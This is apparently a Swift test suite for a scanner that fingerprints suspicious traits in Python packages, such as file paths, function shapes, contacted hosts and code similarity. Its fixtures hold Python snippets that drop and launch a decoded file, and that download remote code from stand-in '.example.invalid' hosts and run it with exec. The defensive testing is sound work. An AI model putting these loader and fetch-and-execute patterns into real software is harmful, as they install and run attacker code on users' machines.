import Intelligence
import Linking
import Scanning
import Testing

@Suite struct TraitTests {
  private func traits(_ source: String) throws -> [Linking.Trait] {
    try report(Workshop.folder("pkg", ["pkg/__init__.py": source])).traits
  }

  private func fingerprints(_ kind: CodeTrait.Kind, _ source: String) throws -> [String] {
    try traits(source).filter { $0.kind == kind }.map(\.fingerprint)
  }

  /// Each writes the same file; one form stands for all.
  @Test(arguments: [
    "target = os.getcwd() + '/' + platform.system()[0] + os.getlogin() + '.py'",
    "target = os.path.join(os.getcwd(), platform.system()[0] + os.getlogin() + '.py')",
    "target = f'{os.getcwd()}/{platform.system()[0]}{os.getlogin()}.py'",
    "sep = '/'\nif platform.system()[0] == 'W':\n    sep = '\\\\'\ntarget = os.getcwd() + sep + platform.system()[0] + os.getlogin() + '.py'",
    "target = ''\ntarget = os.getcwd() + '\\\\' + platform.system()[0] + os.getlogin() + '.py'",
  ])
  func pathsHaveOneForm(path: String) throws {
    let source = """
      import base64, os, platform, subprocess, sys
      body = base64.b64decode('cHJpbnQoMSk=')
      \(path)
      with open(target, 'wb') as out:
          out.write(body)
      subprocess.Popen([sys.executable, target], creationflags=subprocess.DETACHED_PROCESS)
      exec(body)
      """
    #expect(try fingerprints(.pathExpression, source).contains("<cwd>/<system[0]><login>.py"))
  }

  /// Names and values of a function do not change its shape; what it does, does.
  @Test func shapesOutliveRenaming() throws {
    func source(_ name: String, _ variable: String, _ address: String, _ last: String) -> String {
      """
      import base64, requests
      def \(name)(first, second):
          '''Whatever it says.'''
          \(variable) = requests.get("https://\(address)/in", params={"q": first})
          if \(variable).status_code == 200 and len(\(variable).text) > 3:
              for part in \(variable).text.split(";"):
                  exec(base64.b64decode(part).decode("utf-8"))
          \(last)
      \(name)("a", "b")
      """
    }
    let one = try fingerprints(.functionShape, source("pull", "reply", "a.example.invalid", "return second"))
    let renamed = try fingerprints(.functionShape, source("zz", "qq", "b.example.invalid", "return first"))
    let other = try fingerprints(.functionShape, source("pull", "reply", "a.example.invalid", "return [second]"))
    #expect(one.count == 1)
    #expect(one == renamed)
    #expect(one != other)
  }

  @Test func hostsAreTakenFromAddressesAndNotFromFiles() throws {
    let source = """
      import os, requests
      exec(requests.get("https://User@Host.Example.Invalid:8443/stage.py").text)
      os.system("python other.py")
      exec(open("remote.zip").read())
      """
    #expect(try fingerprints(.host, source) == ["host.example.invalid"])
  }

  @Test func cleanPackagesHaveNone() throws {
    #expect(try report(Workshop.honest("honest")).traits.isEmpty)
  }

  @Test func sketchesEstimateTheShareInCommon() throws {
    let one = try #require(CodeSketch(fingerprint: "sketch:" + (1...64).map(Self.hex).joined()))
    let same = try #require(CodeSketch(fingerprint: one.fingerprint))
    let half = try #require(CodeSketch(fingerprint: "sketch:" + (33...96).map(Self.hex).joined()))
    let none = try #require(CodeSketch(fingerprint: "sketch:" + (100...163).map(Self.hex).joined()))
    #expect(one.similarity(to: same) == 1)
    #expect((0.3...0.7).contains(one.similarity(to: half)))
    #expect(one.similarity(to: none) == 0)
    #expect(one.similarity(to: half) == half.similarity(to: one))
  }

  @Test(arguments: ["", "sketch:", "sketch:12", "sketch:0000000g", "sketch:0000000200000001", "masked:00000001"])
  func whatIsNoSketchIsRefused(text: String) { #expect(CodeSketch(fingerprint: text) == nil) }

  @Test func theFilterForgetsNothing() {
    var common = CommonCode(entryCount: 500)
    for number in 0..<500 { common.insert(CommonCode.hash(.constant, "word\(number)")) }
    #expect((0..<500).allSatisfy { common.contains(.constant, "word\($0)") })
    let wrong = (500..<5_500).count { common.contains(.constant, "word\($0)") }
    #expect(wrong < 100, "\(wrong) of 5,000")
    let again = CommonCode(common.bytes)
    #expect(again?.contains(.constant, "word7") == true)
    #expect(CommonCode([1, 2, 3]) == nil)
  }

  private static func hex(_ number: Int) -> String {
    let digits = String(number, radix: 16)
    return String(repeating: "0", count: 8 - digits.count) + digits
  }
}
